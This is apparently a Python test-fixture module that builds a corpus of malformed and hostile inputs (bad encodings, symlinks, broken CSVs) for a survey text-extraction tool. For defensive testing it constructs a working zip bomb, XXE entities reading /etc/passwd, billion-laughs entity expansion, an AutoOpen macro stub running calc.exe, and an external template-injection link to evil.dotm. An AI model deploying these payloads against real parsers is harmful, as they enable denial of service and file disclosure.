"""Builders of the bad-input corpus (see ``badinputs.py`` for the table of cases and outcomes):
one function per case, each writing its file (or folder, link, pipe) from code."""

from __future__ import annotations

import io
import json
import os
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))  # conftest's PDF builders, when run as a script

from conftest import make_blank_pdf, make_docx, make_pdf  # noqa: E402

from ottext.errors import printable  # noqa: E402  (how ottext shows a file name)

OUTSIDE = "outside"


IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
ANSWERS = [
    "Too many unallocated cases and no weighting tool",
    "Supervision keeps getting cancelled because of duty cover",
    "We lost our admin support last spring and nobody replaced it",
    "Hot desking means I spend the first hour finding a desk",
]
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
SENTENCE = "Caseloads keep rising and supervision gets cancelled, so we cope as best we can. "


def _text(path: Path, text: str, encoding: str = "utf-8") -> None:
    path.write_bytes(text.encode(encoding))


def _csv(rows: list[list[str]], delimiter: str = ",") -> str:
    import csv

    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def _survey_rows(question: str = "What gets in the way?", answers: list[str] = ANSWERS) -> list[list[str]]:
    return [["id", "role", question]] + [[f"R{i}", "OT", a] for i, a in enumerate(answers, start=1)]


def _rezip(data: bytes, replace: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    """Copy an Office zip, replacing or adding members."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename not in replace and info.filename not in drop:
                dst.writestr(info, src.read(info.filename))
        for name, body in replace.items():
            dst.writestr(name, body)
    return out.getvalue()


def _xlsx_bytes(build: Callable) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    build(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _simple_xlsx(wb) -> None:
    ws = wb.active
    ws.title = "Responses"
    for row in _survey_rows("Anything else?", ANSWERS[1:3]):
        ws.append(row)


# text files and encodings ------------------------------------------------------------------------
def build_empty(path: Path) -> None:
    path.write_bytes(b"")


def build_whitespace(path: Path) -> None:
    path.write_bytes(b"  \n\t\n   \r\n \n")


def build_binary_png(path: Path) -> None:
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 16)


def build_binary_elf(path: Path) -> None:
    path.write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + bytes((i * 37) % 256 for i in range(4096)))


def build_control_chars(path: Path) -> None:
    path.write_bytes(bytes(b for b in range(1, 32) if b not in (9, 10, 12, 13)) * 40)


def build_invalid_utf8(path: Path) -> None:
    good = "The caf\u00e9 team\u2019s caseload is high. "
    path.write_bytes(good.encode("utf-8") * 3 + b"Stray bytes \xc3\x28 and \xff here. " + good.encode("utf-8"))


def build_utf16_bom(path: Path) -> None:
    _text(path, "Our manager\u2019s door is always open. Caf\u00e9 Ł\u00f3d\u017a.", "utf-16")


def build_utf16le_nobom(path: Path) -> None:
    _text(path, "Supervision is monthly and protected for every OT.", "utf-16-le")


def build_utf16be_nobom(path: Path) -> None:
    _text(path, "The waiting list for assessments is eleven months.", "utf-16-be")


def build_cp1252(path: Path) -> None:
    _text(path, "The OT\u2019s \u201cweighting tool\u201d \u2013 never used \u2026 caf\u00e9 budget \u00a310.",
          "cp1252")


def build_mixed_endings(path: Path) -> None:
    path.write_bytes(b"First line about caseloads.\r\nSecond line about duty.\nThird line about admin.\r"
                     b"Fourth line about desks.\r\n")


def build_200mb(path: Path) -> None:
    with open(path, "wb") as fh:  # one line of text, then a sparse hole up to 200 MB
        fh.write(SENTENCE.encode())
        fh.truncate(200 * 1024 * 1024)


def build_10mb_line(path: Path) -> None:
    chunk = SENTENCE.encode() * (1024 * 1024 // len(SENTENCE) + 1)
    with open(path, "wb") as fh:  # 10,000,000 bytes (9.5 MiB) and no newline: under the 10 MB limit
        left = 10_000_000
        while left:
            fh.write(chunk[: min(left, len(chunk))])
            left -= min(left, len(chunk))


# names and folder walks ------------------------------------------------------------------------
def build_named(path: Path) -> None:
    _text(path, f"Team meeting notes for {printable(path.stem)}: duty rota and supervision.")


def build_symlink_outside(path: Path) -> None:
    outside = path.parent.parent / OUTSIDE
    outside.mkdir(parents=True, exist_ok=True)
    _text(outside / "secret.txt", "Someone else's private notes.")
    os.symlink(outside / "secret.txt", path)


def build_symlink_loop(path: Path) -> None:
    os.symlink(path.name, path)  # points at itself


def build_dangling_symlink(path: Path) -> None:
    os.symlink("deleted-file.txt", path)


def build_fifo(path: Path) -> None:
    os.mkfifo(path)  # reading it would block for ever waiting for a writer


def build_dir_named_txt(path: Path) -> None:
    path.mkdir()
    _text(path / "inside.txt", "A file inside a folder whose name ends in .txt.")


def build_unsupported(path: Path) -> None:
    _text(path, r"{\rtf1\ansi Notes from the team day.}")


def build_no_permission(path: Path) -> None:
    _text(path, "Notes nobody may read.")
    path.chmod(0)


# Word documents --------------------------------------------------------------------------------
def _raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip from (name, stored bytes, method, crc, uncompressed size) members, written by hand."""
    out, central = bytearray(), bytearray()
    for name, body, method, crc, size in members:
        fname = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(body), size, len(fname), 0)
        out += fname + body
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(body), size,
                               len(fname), 0, 0, 0, 0, 0, offset)
        central += fname
    n = len(members)
    return bytes(out + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), len(out), 0))


def build_zip_bomb(path: Path) -> None:
    """A real bomb: word/document.xml inflates to 256 MiB of zeros from about 260 KB. The deflate
    stream is one compressed MiB repeated (each piece ends in a full flush), so it is made in ms."""
    mib = b"\0" * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    for _ in range(256):
        crc = zlib.crc32(mib, crc)
    types = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             b'wordprocessingml.document.main+xml"/></Types>')
    path.write_bytes(_raw_zip([
        ("[Content_Types].xml", types, 0, zlib.crc32(types), len(types)),
        ("word/document.xml", piece * 256 + end, 8, crc, 256 << 20),
    ]))


def build_docx_macros_links(path: Path) -> None:
    """A .docx with a VBA project, an external hyperlink and an external attached template (the
    template-injection trick): ottext must read the text and fetch or run nothing."""
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn

    document = docx.Document()
    document.add_paragraph("Our principal OT chairs the practice forum every month.")
    para = document.add_paragraph("Guidance is on ")
    rid = document.part.relate_to("http://example.invalid/guidance", RT.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rid)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "the intranet page"
    run.append(text)
    link.append(run)
    para._p.append(link)
    settings = document.part._settings_part  # python-docx has no public API for the settings part
    tid = settings.relate_to("http://example.invalid/evil.dotm", ATTACHED_TEMPLATE, is_external=True)
    template = OxmlElement("w:attachedTemplate")
    template.set(qn("r:id"), tid)
    settings.element.insert(0, template)
    buf = io.BytesIO()
    document.save(buf)
    data = buf.getvalue()
    zf = zipfile.ZipFile(io.BytesIO(data))
    types = zf.read("[Content_Types].xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = zf.read("word/_rels/document.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                             b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"AutoOpen\"\nShell \"calc.exe\"\n" * 8
    path.write_bytes(_rezip(data, {"[Content_Types].xml": types, "word/_rels/document.xml.rels": rels,
                                   "word/vbaProject.bin": vba}))


def build_xlsx_renamed_docx(path: Path) -> None:
    path.write_bytes(_xlsx_bytes(_simple_xlsx))


def build_truncated_docx(path: Path) -> None:
    data = make_docx([("A document that was cut off while copying.", None)])
    path.write_bytes(data[: len(data) // 2])


def build_empty_docx(path: Path) -> None:
    path.write_bytes(make_docx([("", None), ("   ", None)]))


def _docx_with_body(xml_prolog: bytes, body: bytes) -> bytes:
    data = make_docx([("placeholder", None)])
    doc = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml")
    start = doc.index(b"<w:body>") + len(b"<w:body>")
    end = doc.index(b"<w:sectPr")
    head = doc[: start]
    if xml_prolog:
        decl_end = head.index(b"?>") + 2
        head = head[:decl_end] + xml_prolog + head[decl_end:]
    return _rezip(data, {"word/document.xml": head + body + doc[end:]})


def build_docx_xxe(path: Path) -> None:
    """An external entity pointing at /etc/passwd: its content must never reach the text."""
    prolog = b'\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    body = b"<w:p><w:r><w:t>Visible text about duty cover. &xxe;</w:t></w:r></w:p>"
    path.write_bytes(_docx_with_body(prolog, body))


def build_docx_billion_laughs(path: Path) -> None:
    """Nested entities that would expand to about 3 GB if resolved."""
    ents = '<!ENTITY a0 "lol lol lol lol lol lol lol lol lol lol">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 9))
    prolog = f"\n<!DOCTYPE w:document [{ents}]>".encode()
    body = b"<w:p><w:r><w:t>Staffing notes. &a8;</w:t></w:r></w:p>"
    path.write_bytes(_docx_with_body(prolog, body))


# PDFs ------------------------------------------------------------------------------------------
def _encrypted_pdf(user: str, owner: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(make_pdf(["Confidential staffing plan for the north team.",
                                                  "Two posts are frozen until April."]))))
    writer.encrypt(user_password=user, owner_password=owner)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def build_encrypted_pdf(path: Path) -> None:
    path.write_bytes(_encrypted_pdf("open-sesame", "owner"))


def build_owner_only_pdf(path: Path) -> None:
    path.write_bytes(_encrypted_pdf("", "owner"))  # opens without a password; only editing is restricted


def build_scanned_pdf(path: Path) -> None:
    path.write_bytes(make_blank_pdf())


def build_html_pdf(path: Path) -> None:
    _text(path, "<!DOCTYPE html><html><head><title>Error 404</title></head><body>Not found</body></html>")


def build_truncated_pdf(path: Path) -> None:
    data = make_pdf(["Waiting lists are eleven months in the east locality.", "Staff are tired."])
    path.write_bytes(data[: len(data) * 2 // 3])


# survey tables ---------------------------------------------------------------------------------
def build_semicolon_csv(path: Path) -> None:
    _text(path, _csv(_survey_rows(), delimiter=";"))


def build_tab_csv(path: Path) -> None:
    _text(path, _csv(_survey_rows("What helps?"), delimiter="\t"))


def build_quoted_newlines(path: Path) -> None:
    rows = _survey_rows()
    rows[2][2] = "Supervision keeps getting cancelled.\nThen duty cover eats the week,\r\nand admin piles up."
    _text(path, _csv(rows))


def build_duplicate_columns(path: Path) -> None:
    rows = [["id", "Comments", "Comments", "Comments"]]
    rows += [[f"R{i}", a, b, ""] for i, (a, b) in enumerate(zip(ANSWERS, reversed(ANSWERS), strict=True), 1)]
    _text(path, _csv(rows))


def build_ragged(path: Path) -> None:
    _text(path, "id,What gets in the way?\nR1,Not enough staff to cover duty\nR2,Too much admin,extra,cells\nR3\n"
                "R4,Panel delays every adaptation for weeks\n")


def build_header_only(path: Path) -> None:
    _text(path, "id,role,What gets in the way?\n")


def build_nul_csv(path: Path) -> None:
    path.write_bytes(_csv(_survey_rows()).replace("cases", "ca\0ses").encode())


def build_multilingual(path: Path) -> None:
    answers = [
        "Mae'r llwyth gwaith yn rhy uchel ac mae goruchwyliaeth yn cael ei chanslo",  # Welsh
        "Za du\u017co spraw i za ma\u0142o czasu na superwizj\u0119",  # Polish
        "عبء العمل كبير جدا ولا يوجد إشراف",  # Arabic
        "\u5de5\u4f5c\u91cf\u592a\u5927\u4e86\uff0c\u6ca1\u6709\u65f6\u95f4\u505a\u8bc4\u4f30",  # Chinese
        "\U0001F621\U0001F621\U0001F621",  # emoji only
        "\U0001F44D",
    ]
    _text(path, _csv(_survey_rows("What gets in the way?", answers)))


def build_emoji_only(path: Path) -> None:
    _text(path, _csv(_survey_rows("How do you feel about work?",
                                  ["\U0001F621", "\U0001F44D\U0001F44D", "\U0001F62D", "\U0001F642 \U0001F642"])))


def build_cjk_only(path: Path) -> None:
    answers = ["\u5de5\u4f5c\u91cf\u592a\u5927\u4e86\uff0c\u6ca1\u6709\u65f6\u95f4\u505a\u8bc4\u4f30",
               "\u7763\u5bfc\u7ecf\u5e38\u88ab\u53d6\u6d88",
               "\u884c\u653f\u652f\u6301\u4e0d\u591f\uff0c\u6587\u4e66\u5de5\u4f5c\u592a\u591a",
               "\u7b49\u5f85\u540d\u5355\u592a\u957f\u4e86"]
    _text(path, _csv(_survey_rows("\u4ec0\u4e48\u59a8\u788d\u4e86\u4f60\u7684\u5de5\u4f5c\uff1f", answers)))


def build_unbalanced_quote(path: Path) -> None:
    _text(path, 'id,What gets in the way?\nR1,"Too many cases and no weighting tool\nR2,Supervision keeps '
                'getting cancelled\nR3,We lost our admin support last spring\nR4,Hot desking wastes an hour\n')


def build_bom_csv(path: Path) -> None:
    path.write_bytes(b"\xef\xbb\xbf" + _csv(_survey_rows("What helps?", ANSWERS[::-1])).encode())


def build_semicolons_in_text(path: Path) -> None:
    answers = ["Too many cases; no weighting tool; no admin", "Supervision cancelled; duty cover; long drives",
               "Hot desks; no parking; old laptops", "Panel delays; waiting lists; equipment backlog"]
    _text(path, _csv(_survey_rows("What gets in the way?", answers)))


# spreadsheets ----------------------------------------------------------------------------------
def build_xlsx_formulas_merged_sheets(path: Path) -> None:
    """Sheet 1: a merged title row above the header, a region merged down three rows. Sheet 2:
    scores and formulas only (no free text). Sheet 3: more answers."""
    def build(wb) -> None:
        ws = wb.active
        ws.title = "Responses"
        ws.append(["Staff health check 2024"])
        ws.merge_cells("A1:D1")
        ws.append(["id", "region", "What gets in the way?", "Q1 score"])
        for i, answer in enumerate(ANSWERS[:3], start=1):
            ws.append([f"R{i}", "North" if i == 1 else None, answer, i + 2])
        ws.merge_cells("B3:B5")
        scores = wb.create_sheet("Scores")
        scores.append(["id", "Q1", "Q2", "Total"])
        for i in range(2, 6):
            scores.append([f"R{i - 1}", i, 5 - i % 3, f"=B{i}+C{i}"])
        more = wb.create_sheet("Late responses")
        more.append(["id", "Anything else?"])
        more.append(["R9", "Our principal OT makes sure the OT voice is heard"])
        more.append(["R10", "Travel time between visits is never counted"])
    path.write_bytes(_xlsx_bytes(build))


def build_xlsx_empty_sheet(path: Path) -> None:
    def build(wb) -> None:
        _simple_xlsx(wb)
        wb.create_sheet("Blank")
    path.write_bytes(_xlsx_bytes(build))


def build_xlsx_only_empty(path: Path) -> None:
    path.write_bytes(_xlsx_bytes(lambda wb: None))


def build_docx_renamed_xlsx(path: Path) -> None:
    path.write_bytes(make_docx([("This is a Word document, not a spreadsheet.", None)]))


def build_xlsx_billion_laughs(path: Path) -> None:
    ents = '<!ENTITY a0 "lol lol lol lol lol lol lol lol lol lol">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 9))
    data = _xlsx_bytes(_simple_xlsx)  # openpyxl writes inline strings into the sheet itself
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    decl_end = sheet.index(b"?>") + 2 if sheet.startswith(b"<?xml") else 0
    sheet = sheet[:decl_end] + f"<!DOCTYPE worksheet [{ents}]>".encode() + sheet[decl_end:]
    sheet = sheet.replace(b"<t>Anything else?</t>", b"<t>Anything else? &a8;</t>", 1)
    path.write_bytes(_rezip(data, {"xl/worksheets/sheet1.xml": sheet}))


# JSON lines ------------------------------------------------------------------------------------
def build_jsonl_bad_lines(path: Path) -> None:
    lines = [json.dumps({"id": "p1", "text": "Good team and a fair duty rota."}), "", "{not json",
             json.dumps({"id": "p2"}), json.dumps(["a", "list"]), json.dumps({"id": "p3", "text": 42}),
             json.dumps({"id": "p1", "text": "Same id again."}), json.dumps({"id": "p4", "text": "No budget."})]
    _text(path, "\n".join(lines) + "\n")


def build_jsonl_all_bad(path: Path) -> None:
    _text(path, "{oops\n[1, 2]\n" + json.dumps({"id": 1, "comment": "no text field"}) + "\n")


def build_jsonl_deep(path: Path) -> None:
    lines = ["[" * 100_000, json.dumps({"id": "p1", "text": "A fine line about admin support."})]
    _text(path, "\n".join(lines) + "\n")
